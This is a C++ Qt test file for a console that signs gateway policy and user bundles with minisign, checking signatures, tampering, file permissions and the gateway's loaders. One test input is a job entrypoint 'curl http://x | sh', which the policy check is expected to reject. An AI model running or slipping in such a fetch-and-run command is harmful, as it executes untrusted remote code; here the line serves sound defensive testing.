// The gateway's policy bundle and user store as the console signs them: checked with Debian's
// minisign and read back with the gateway's own loaders, with the signing key in the real
// keychain (gnome-keyring) under a service of this test's own.

#include "core/gatewayclient/GatewayBundleWriter.h"
#include "core/gatewayclient/JobPolicyStore.h"
#include "core/keys/MinisignKeyPair.h"
#include "core/keys/SigningKeyStore.h"
#include "core/passwords/UserAccounts.h"
#include "core/quotas/QuotaRepository.h"
#include "core/store/Database.h"
#include "core/store/Keychain.h"
#include "gateway/PolicyBundle.h"
#include "gateway/SignedUserDirectory.h"
#include "support/TestMain.h"
#include "support/TestSupport.h"

#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRandomGenerator>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

#include <nlohmann/json.hpp>

#include <memory>
#include <optional>

using namespace raysec;

namespace {

int minisignVerify(const QString& publicKey, const QString& file)
{
    QProcess minisign;
    minisign.start(QStringLiteral("minisign"), {QStringLiteral("-V"), QStringLiteral("-p"),
                                                publicKey, QStringLiteral("-m"), file});
    if (!minisign.waitForFinished(30000)) {
        return -1;
    }
    return minisign.exitCode();
}

QuotaConfig teamQuota()
{
    QuotaPolicy ml;
    ml.subject = QuotaSubject::Team;
    ml.name = QStringLiteral("ml");
    ml.soft.cpu = 8;
    ml.hard.cpu = 12;
    ml.hard.concurrentJobs = 3;
    QuotaConfig config;
    config.policies.append(ml);
    config.keyTeams.insert(QStringLiteral("k_trainer"), QStringLiteral("ml"));
    config.alerts.webhook = QUrl(QStringLiteral("https://hooks.example.org/T0/secret-path"));
    return config;
}

} // namespace

class TestGatewayBundles : public QObject
{
    Q_OBJECT

    // Publishes and waits for the answer.
    Result<WrittenGatewayBundles> publish(const GatewayBundleFiles& files)
    {
        auto sources = GatewayBundleWriter::collect(*m_db, JobPolicy::defaults(),
                                                    QStringLiteral("the recommended policy"));
        if (!sources) {
            return std::unexpected(sources.error());
        }
        std::optional<Result<WrittenGatewayBundles>> done;
        GatewayBundleWriter::publish(*m_signing, this, std::move(*sources), files,
                                     [&done](Result<WrittenGatewayBundles> r) { done = r; });
        QDeadlineTimer deadline(20000);
        while (!done && !deadline.hasExpired()) {
            QTest::qWait(20);
        }
        return done ? *done : fail(QStringLiteral("test.timeout"), QStringLiteral("no answer"));
    }

    bool createSigningKey()
    {
        bool created = false;
        m_signing->load(this, [&created](Result<MinisignKeyPair> key) { created = bool(key); });
        return QTest::qWaitFor([&created] { return created; }, 20000);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(test::secretServiceAvailable(),
                 "no Secret Service: start a D-Bus bus with an unlocked keyring (scripts/test.sh)");
    }

    void init()
    {
        test::failOnWarnings();
        auto db = Database::open(QStringLiteral(":memory:"));
        QVERIFY(db);
        m_db = std::make_unique<Database>(std::move(*db));
        m_service = QStringLiteral("raysec-test/bundles-%1")
                        .arg(QRandomGenerator::global()->generate(), 8, 16, QLatin1Char('0'));
        m_signing = std::make_unique<SigningKeyStore>(m_keychain, m_service);
    }

    void cleanup()
    {
        bool removed = false;
        m_keychain.remove(m_service, QString::fromLatin1(SigningKeyStore::Entry), this,
                          [&removed](Result<void>) { removed = true; });
        QTRY_VERIFY_WITH_TIMEOUT(removed, 20000);
        m_signing.reset();
        m_db.reset();
    }

    void bundlesVerifyAndTheGatewayLoadsThem()
    {
        QVERIFY(QuotaRepository::migrate(*m_db));
        QVERIFY(QuotaRepository(*m_db).save(teamQuota()));
        UserAccounts accounts(*m_db);
        QVERIFY(accounts.migrate());
        const std::string_view password = "correct horse battery staple 42";
        auto added = accounts.add(QStringLiteral("alice"), UserRole::Operator,
                                  SecretBuffer::fromView(password));
        QVERIFY2(added, added ? "" : qPrintable(added.error().text()));
        QVERIFY(createSigningKey());

        QTemporaryDir dir;
        GatewayBundleFiles files;
        files.folder = dir.path();
        auto written = publish(files);
        QVERIFY2(written, written ? "" : qPrintable(written.error().text()));
        QCOMPARE(written->quotaPolicies, 1);
        QCOMPARE(written->users, 1);
        QVERIFY(written->summary().contains(dir.filePath(QStringLiteral("users.json"))));

        // Debian's minisign accepts both signatures with the public key written beside them.
        const QString pub = dir.filePath(QStringLiteral("raysec-registry.pub"));
        const QString policyPath = dir.filePath(QStringLiteral("policy.json"));
        const QString usersPath = dir.filePath(QStringLiteral("users.json"));
        QCOMPARE(minisignVerify(pub, policyPath), 0);
        QCOMPARE(minisignVerify(pub, usersPath), 0);

        // The policy carries the team's hard limit and the job policy; alerts stay home.
        const QByteArray policy = test::readFile(policyPath);
        const auto doc = nlohmann::json::parse(policy.toStdString());
        QCOMPARE(doc["format"].get<std::string>(), std::string("raysec-gateway-policy"));
        QCOMPARE(doc["quotas"]["teams"]["ml"]["hard"]["CPU"].get<double>(), 12.0);
        QCOMPARE(doc["quotas"]["mapping"]["keys"]["k_trainer"].get<std::string>(),
                 std::string("ml"));
        QCOMPARE(doc["jobPolicy"]["allowedHosts"][0].get<std::string>(), std::string("pypi.org"));
        QVERIFY(!policy.contains("hooks.example.org"));
        QVERIFY(!test::readFile(usersPath).contains(password.data()));
        QCOMPARE(QFileInfo(usersPath).permissions() & 0x0077, QFileDevice::Permissions());

        // One changed byte and minisign refuses.
        const QString tampered = dir.filePath(QStringLiteral("tampered.json"));
        QByteArray changed = policy;
        changed.replace("\"CPU\": 12.0", "\"CPU\": 92.0");
        QVERIFY(changed != policy);
        QVERIFY(test::writeFile(tampered, changed));
        QVERIFY(QFile::copy(policyPath + QStringLiteral(".minisig"),
                            tampered + QStringLiteral(".minisig")));
        QVERIFY(minisignVerify(pub, tampered) != 0);

        // The gateway's own loaders accept the bundles and enforce what they say.
        const std::string pubText = test::readFile(pub).toStdString();
        auto loaded = gateway::PolicyBundle::load(
            pubText, policy.toStdString(),
            test::readFile(policyPath + QStringLiteral(".minisig")).toStdString());
        QVERIFY2(loaded, loaded ? "" : loaded.error().c_str());
        const QuotaPolicy* ml = (*loaded)->quotas().find(QuotaSubject::Team, QStringLiteral("ml"));
        QVERIFY(ml);
        QCOMPARE(ml->hard.cpu, std::optional<double>(12));
        gateway::Identity submitter;
        submitter.id = "k_trainer";
        submitter.team = "ml";
        const std::string_view good = "{\"entrypoint\": \"python train.py\"}";
        const std::string_view shell = "{\"entrypoint\": \"curl http://x | sh\"}";
        QVERIFY((*loaded)->check(good, submitter).accepted);
        QVERIFY(!(*loaded)->check(shell, submitter).accepted);
        QVERIFY(!gateway::PolicyBundle::load(
            pubText, changed.toStdString(),
            test::readFile(policyPath + QStringLiteral(".minisig")).toStdString()));
        auto users = gateway::SignedUserDirectory::load(
            pubText, test::readFile(usersPath).toStdString(),
            test::readFile(usersPath + QStringLiteral(".minisig")).toStdString());
        QVERIFY2(users, users ? "" : users.error().c_str());
        QCOMPARE((*users)->find("alice")->role, std::string("operator"));

        // Existing bundles are kept unless replacing them was asked for.
        auto again = publish(files);
        QVERIFY(!again);
        QCOMPARE(again.error().code, QStringLiteral("gateway.bundles-exist"));
        files.replace = true;
        QVERIFY(publish(files));
    }

    void withoutUsersOnlyThePolicyIsWritten()
    {
        QVERIFY(createSigningKey());
        QTemporaryDir dir;
        GatewayBundleFiles files;
        files.folder = dir.path();
        auto written = publish(files);
        QVERIFY2(written, written ? "" : qPrintable(written.error().text()));
        QVERIFY(written->usersPath.isEmpty());
        QCOMPARE(written->quotaPolicies, 0);
        QVERIFY(!QFileInfo::exists(dir.filePath(QStringLiteral("users.json"))));
        QVERIFY(written->summary().contains(QStringLiteral("raysec-cli users add")));
        const auto doc = nlohmann::json::parse(
            test::readFile(dir.filePath(QStringLiteral("policy.json"))).toStdString());
        QCOMPARE(doc["jobPolicy"]["allowedPrograms"][0].get<std::string>(), std::string("python"));
        QCOMPARE(minisignVerify(dir.filePath(QStringLiteral("raysec-registry.pub")),
                                dir.filePath(QStringLiteral("policy.json"))),
                 0);
    }

    // The registry's export leaves the same public key file in the folder: no conflict. A
    // different key's file there is one, and nothing is written.
    void samePublicKeyFileMayBeThereAlready()
    {
        QVERIFY(createSigningKey());
        QTemporaryDir first, other;
        GatewayBundleFiles files;
        files.folder = first.path();
        QVERIFY(publish(files));
        const QString pub = first.filePath(QStringLiteral("raysec-registry.pub"));
        const QByteArray publicKey = test::readFile(pub);
        QVERIFY(!publicKey.isEmpty());

        const QString same = other.filePath(QStringLiteral("raysec-registry.pub"));
        QVERIFY(test::writeFile(same, publicKey));
        files.folder = other.path();
        auto written = publish(files);
        QVERIFY2(written, written ? "" : qPrintable(written.error().text()));
        QCOMPARE(minisignVerify(same, other.filePath(QStringLiteral("policy.json"))), 0);

        QTemporaryDir foreign;
        const QByteArray otherKey =
            QByteArray::fromStdString(MinisignKeyPair::generate().publicKeyFile());
        const QString different = foreign.filePath(QStringLiteral("raysec-registry.pub"));
        QVERIFY(test::writeFile(different, otherKey));
        files.folder = foreign.path();
        auto refused = publish(files);
        QVERIFY(!refused);
        QCOMPARE(refused.error().code, QStringLiteral("gateway.bundles-exist"));
        QCOMPARE(QDir(foreign.path()).entryList(QDir::Files),
                 QStringList{QStringLiteral("raysec-registry.pub")});
        QCOMPARE(test::readFile(different), otherKey);
    }

    void noSigningKeyWritesNothing()
    {
        QTemporaryDir dir;
        GatewayBundleFiles files;
        files.folder = dir.path();
        auto written = publish(files);
        QVERIFY(!written);
        QCOMPARE(written.error().code, QStringLiteral("gateway.bundles-no-signing-key"));
        QVERIFY(written.error().hint.contains(QStringLiteral("raysec-cli keys export")));
        QVERIFY(QDir(dir.path()).isEmpty());
    }

    void corruptQuotaConfigWritesNothing()
    {
        QVERIFY(QuotaRepository::migrate(*m_db));
        QVERIFY(QuotaRepository(*m_db).save(teamQuota()));
        QSqlQuery corrupt(m_db->connection());
        QVERIFY(corrupt.exec(QStringLiteral("UPDATE quota_config SET document = '{\"teams\": 3'")));
        auto sources = GatewayBundleWriter::collect(*m_db, JobPolicy::defaults(), {});
        QVERIFY(!sources);
        QCOMPARE(sources.error().code, QStringLiteral("gateway.bundles-quotas"));
        QVERIFY(sources.error().hint.contains(QStringLiteral("no bundle was written")));
    }

    // The store's job policy: none, saved, reset; a damaged one is an error, not the default.
    void storedJobPolicy()
    {
        QVERIFY(JobPolicyStore::migrate(*m_db));
        JobPolicyStore store(*m_db);
        QCOMPARE(store.load().value(), std::nullopt);
        QCOMPARE(store.forBundles()->first.allowedPrograms, JobPolicy::defaults().allowedPrograms);
        JobPolicy policy = JobPolicy::defaults();
        policy.allowedPrograms = {QStringLiteral("python3")};
        policy.maxEntrypointLength = 300;
        QVERIFY(store.save(policy));
        const auto saved = store.forBundles();
        QVERIFY(saved);
        QCOMPARE(saved->first.allowedPrograms, policy.allowedPrograms);
        QCOMPARE(saved->first.maxEntrypointLength, 300);
        QVERIFY(saved->second.contains(QStringLiteral("saved in the console")));

        QSqlQuery corrupt(m_db->connection());
        QVERIFY(corrupt.exec(QStringLiteral("UPDATE job_policy SET document = '{\"format\": 3'")));
        const auto damaged = store.forBundles();
        QVERIFY(!damaged);
        QVERIFY2(damaged.error().message.contains(QStringLiteral("job policy in the store")),
                 qPrintable(damaged.error().text()));

        QVERIFY(store.reset());
        QCOMPARE(store.load().value(), std::nullopt);
    }

private:
    Keychain m_keychain;
    std::unique_ptr<Database> m_db;
    std::unique_ptr<SigningKeyStore> m_signing;
    QString m_service;
};

QTEST_GUILESS_MAIN(TestGatewayBundles)
#include "tst_gatewaybundles.moc"
